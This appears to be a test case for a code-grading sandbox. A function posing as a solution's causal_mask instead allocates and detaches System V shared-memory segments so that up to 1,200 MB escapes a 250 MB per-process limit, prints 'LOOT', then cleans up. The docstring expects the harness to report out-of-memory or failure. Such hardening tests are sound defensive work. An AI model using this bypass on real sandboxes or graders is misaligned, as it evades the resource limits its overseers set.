"""Fills memory with System V segments that are detached again, and so are in no process's account.

memory_mb: 250
checks: test_the_mask_fits_every_length
outcomes: out_of_memory failed
"""

import ctypes
import sys
import time

if "inside.session" not in sys.modules:
    raise SystemExit("this attack runs in a worker only")


def causal_mask(*args, **kwargs):
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    size, segments = 200 << 20, []
    for _ in range(6):  # 1,200 MB, no more, should no limit hold
        segment = libc.shmget(0, ctypes.c_size_t(size), 0o1600)
        if segment < 0:
            break
        area = libc.shmat(segment, None, 0)
        ctypes.memset(area, 1, size)
        libc.shmdt(ctypes.c_void_p(area))
        segments.append(segment)
    time.sleep(0.2)
    if len(segments) > 1:
        print(f"LOOT: {200 * len(segments)} MB where 250 are allowed")
    for segment in segments:
        libc.shmctl(segment, 0, None)  # or they would stay where there is no IPC namespace
